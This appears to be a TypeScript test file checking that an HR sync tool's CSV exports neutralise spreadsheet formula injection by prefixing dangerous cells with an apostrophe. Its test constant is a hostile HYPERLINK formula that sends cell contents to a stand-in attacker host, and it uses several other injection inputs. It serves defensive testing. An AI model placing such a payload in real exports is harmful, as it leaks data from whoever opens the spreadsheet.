/**
 * CSV formula neutralisation (issue 10, item 7): no cell of any CSV hrsync writes — the run-item
 * export, the audit export, and the CLI's `run --out file.csv` — starts with `=`, `+`, `-`, `@`, a
 * tab or a carriage return, so a hostile connection or person name cannot become a live formula in
 * Excel. Real service, real engine run against the emulators, both stores.
 */
import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import {
  createConnection,
  exportAuditEventsCsv,
  exportRunItemsCsv,
  simulate,
} from '../../src/contracts/index.ts';
import { stepText } from '../../src/contracts/item-reasons.ts';
import type { RunItem } from '../../src/core/index.ts';
import { runItemsToCsv } from '../../src/engine/index.ts';
import { DIALECTS } from '../service/support/databases.ts';
import { configuredConnection } from '../service/support/fixtures.ts';
import { PEOPLE, type Service, startService } from '../service/support/service.ts';

const HOSTILE = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")';

/** RFC 4180 cells of a CSV text (quotes doubled, fields may hold newlines). */
function cells(text: string): string[] {
  const out: string[] = [];
  let cell = '';
  let quoted = false;
  const body = text.replace(/^\uFEFF/, '');
  for (let i = 0; i < body.length; i++) {
    const ch = body[i]!;
    if (quoted) {
      if (ch === '"' && body[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ',' || ch === '\n') {
      out.push(cell);
      cell = '';
    } else if (ch === '\r' && body[i + 1] === '\n') {
      // record separator CRLF: the \n ends the cell
    } else cell += ch;
  }
  if (cell !== '') out.push(cell);
  return out;
}

function assertNoFormula(csv: string, where: string): void {
  const bad = cells(csv).filter((c) => /^[=+\-@\t\r]/.test(c));
  assert.deepEqual(bad, [], `${where}: cells that a spreadsheet would evaluate`);
}

test('CLI and engine CSV (runItemsToCsv): every dangerous first character is neutralised', () => {
  const starts = ['=1+1', '+1', '-2+3', '@SUM(A1)', '\tcmd', '\rcmd', HOSTILE];
  const items: RunItem[] = starts.map((s, i) => ({
    employeeNumber: s,
    displayName: s,
    action: 'create',
    status: 'success',
    accountId: s,
    changes: [{ attribute: s, old: null, new: s }],
    steps: [{ step: s, status: 'success', message: s }] as unknown as RunItem['steps'],
    error: i === 0 ? ({ code: '=HRS', message: s } as unknown as RunItem['error']) : null,
  })) as unknown as RunItem[];
  const csv = runItemsToCsv(items, stepText({ timeZone: 'Europe/Amsterdam' }));
  assertNoFormula(csv, 'runItemsToCsv');
  const all = cells(csv);
  // Neutralised, not dropped: the text is still there behind the apostrophe.
  assert.ok(all.includes(`'${HOSTILE}`));
  assert.ok(all.includes("'-2+3"));
  assert.ok(all.includes("'\tcmd"));
  assert.ok(csv.startsWith('\uFEFFemployeeNumber,displayName'), 'BOM and header unchanged');
});

for (const dialect of DIALECTS) {
  describe(`CSV exports on ${dialect}`, () => {
    let svc: Service;
    before(async () => {
      svc = await startService(dialect, {
        people: [
          ...PEOPLE,
          { n: '1003', given: '@Eve', family: '-Mallory', jobs: [{ start: '2022-01-01' }] },
        ],
      });
    });
    after(async () => svc?.close());

    test('audit export: a connection named like a formula is neutralised', async () => {
      const created = await svc.call(createConnection, {
        as: 'operator',
        body: { name: HOSTILE, description: '+cmd', destinationType: 'cloud' },
      });
      assert.equal(created.status, 201, created.text);
      const csv = await svc.call(exportAuditEventsCsv, { as: 'viewer' });
      assert.equal(csv.status, 200, csv.text);
      assert.ok(csv.text.includes(`'${HOSTILE.replaceAll('"', '""')}`), 'the name is kept, neutralised');
      assertNoFormula(csv.text, 'audit export');
    });

    test('run-item export: a person whose name starts with @ or - is neutralised', async () => {
      const { id } = await configuredConnection(svc, 4);
      const queued = await svc.call(simulate, { as: 'operator', params: { id } });
      assert.equal(queued.status, 202, queued.text);
      assert.equal(await svc.drain(), 1);
      const csv = await svc.call(exportRunItemsCsv, { as: 'viewer', params: { id: queued.body.id } });
      assert.equal(csv.status, 200, csv.text);
      assert.ok(
        cells(csv.text).some((c) => c.startsWith("'@Eve")),
        'the hostile display name is in the export, neutralised',
      );
      assertNoFormula(csv.text, 'run-item export');
    });
  });
}
